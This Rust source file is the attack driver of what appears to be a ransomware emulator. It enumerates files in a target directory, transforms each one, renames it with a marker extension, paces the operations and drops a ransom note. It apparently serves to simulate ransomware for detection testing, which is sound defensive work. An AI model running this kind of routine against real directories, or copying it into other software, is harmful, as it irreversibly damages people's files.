// SPDX-License-Identifier: PMPL-1.0-or-later

//! Attack driver: enumerate, then transform, mark and pace each victim, then drop the note.

use crate::attack::mark::{marked_path, rename_no_clobber};
use crate::attack::note::drop_note;
use crate::attack::pacing::Pacer;
use crate::attack::targets::{self, still_regular};
use crate::attack::transform::transform_file;
use crate::config::EmulatorConfig;
use crate::error::Result;
use crate::types::*;
use chrono::{Local, SecondsFormat, Utc};
use colored::*;
use log::warn;
use std::io;

pub struct AttackDriver {
    config: EmulatorConfig,
    pacer: Pacer,
}

impl AttackDriver {
    pub fn new(config: EmulatorConfig) -> Self {
        let pacer = Pacer::new(config.initial_delay, config.delay);
        Self { config, pacer }
    }

    /// Enumeration only; nothing on disk changes.
    pub fn plan(&self) -> Result<TargetPlan> {
        self.config.validate()?;
        targets::enumerate(&self.config)
    }

    /// Run the full sequence. Only a missing target (or invalid config) is fatal;
    /// everything after enumeration is reported through the summary.
    pub fn execute(&self) -> Result<RunSummary> {
        self.config.validate()?;
        let plan = targets::enumerate(&self.config)?;

        let started_at = Utc::now();
        self.say(format!(
            "{} Starting attack simulation at {}",
            "[*]".cyan(),
            started_at.to_rfc3339_opts(SecondsFormat::Micros, true)
        ));
        self.say(format!(
            "{} Target: {}",
            "[*]".cyan(),
            self.config.target_dir.display()
        ));
        let total = plan.victims.len();
        self.say(format!("{} Found {} victim files.", "[*]".cyan(), total));
        if let Some(rate) = self.pacer.nominal_rate() {
            self.say(format!(
                "{} Pacing: {:?} per file (~{:.0} ops/sec)",
                "[*]".cyan(),
                self.config.delay,
                rate
            ));
        }

        self.pacer.settle();

        let mut records = Vec::with_capacity(total);
        let mut errors = Vec::new();

        for (i, victim) in plan.victims.iter().enumerate() {
            match self.process(i + 1, victim) {
                Ok(record) => {
                    self.report_success(total, &record);
                    records.push(record);
                }
                Err(err) => {
                    warn!("{} failed at {}: {}", err.filename, err.kind, err.cause);
                    self.say(format!(
                        "{} Error processing {} ({}): {}",
                        "[!]".red().bold(),
                        err.filename,
                        err.kind,
                        err.cause
                    ));
                    errors.push(err);
                }
            }
            self.pacer.pace();
        }

        let note = drop_note(&self.config);
        match &note.error {
            None => self.say(format!(
                "{} Ransom note dropped: {}",
                "[*]".cyan(),
                note.path.display()
            )),
            Some(cause) => self.say(format!(
                "{} Failed to drop ransom note {}: {}",
                "[!]".red().bold(),
                note.path.display(),
                cause
            )),
        }

        Ok(RunSummary {
            started_at: started_at.to_rfc3339_opts(SecondsFormat::Micros, true),
            finished_at: Utc::now().to_rfc3339_opts(SecondsFormat::Micros, true),
            target_dir: self.config.target_dir.clone(),
            marker_extension: self.config.marker_extension.clone(),
            eligible: total,
            records,
            errors,
            skipped: plan.skipped,
            note,
        })
    }

    pub(crate) fn process(&self, index: usize, victim: &Victim) -> std::result::Result<OpRecord, FileError> {
        match still_regular(&victim.path) {
            Ok(true) => {}
            Ok(false) => {
                return Err(FileError::new(
                    FileErrorKind::TypeChanged,
                    &victim.name,
                    "no longer a regular file",
                ))
            }
            Err(e) => return Err(FileError::new(io_kind(&e), &victim.name, e)),
        }

        let original_sha256 =
            transform_file(&victim.path).map_err(|e| FileError::new(io_kind(&e), &victim.name, e))?;

        // From here on the content is transformed; a failed rename is not rolled back.
        let destination = marked_path(&victim.path, &self.config.marker_extension);
        rename_no_clobber(&victim.path, &destination)
            .map_err(|(kind, e)| FileError::new(kind, &victim.name, e))?;

        let renamed_to = destination
            .file_name()
            .map(|n| n.to_string_lossy().to_string())
            .unwrap_or_default();

        Ok(OpRecord {
            index,
            filename: victim.name.clone(),
            renamed_to,
            timestamp: Utc::now().to_rfc3339_opts(SecondsFormat::Micros, true),
            original_sha256,
        })
    }

    fn report_success(&self, total: usize, record: &OpRecord) {
        let when = if self.config.log_timestamps {
            format!(" - {}", Local::now().format("%H:%M:%S%.6f"))
        } else {
            String::new()
        };
        self.say(format!(
            "{} Encrypted ({}/{}){}: {} -> {}",
            "[+]".green(),
            record.index,
            total,
            when,
            record.filename,
            record.renamed_to
        ));
    }

    fn say(&self, line: String) {
        if !self.config.quiet {
            println!("{}", line);
        }
    }
}

fn io_kind(e: &io::Error) -> FileErrorKind {
    if e.kind() == io::ErrorKind::NotFound {
        FileErrorKind::Vanished
    } else {
        FileErrorKind::Transform
    }
}
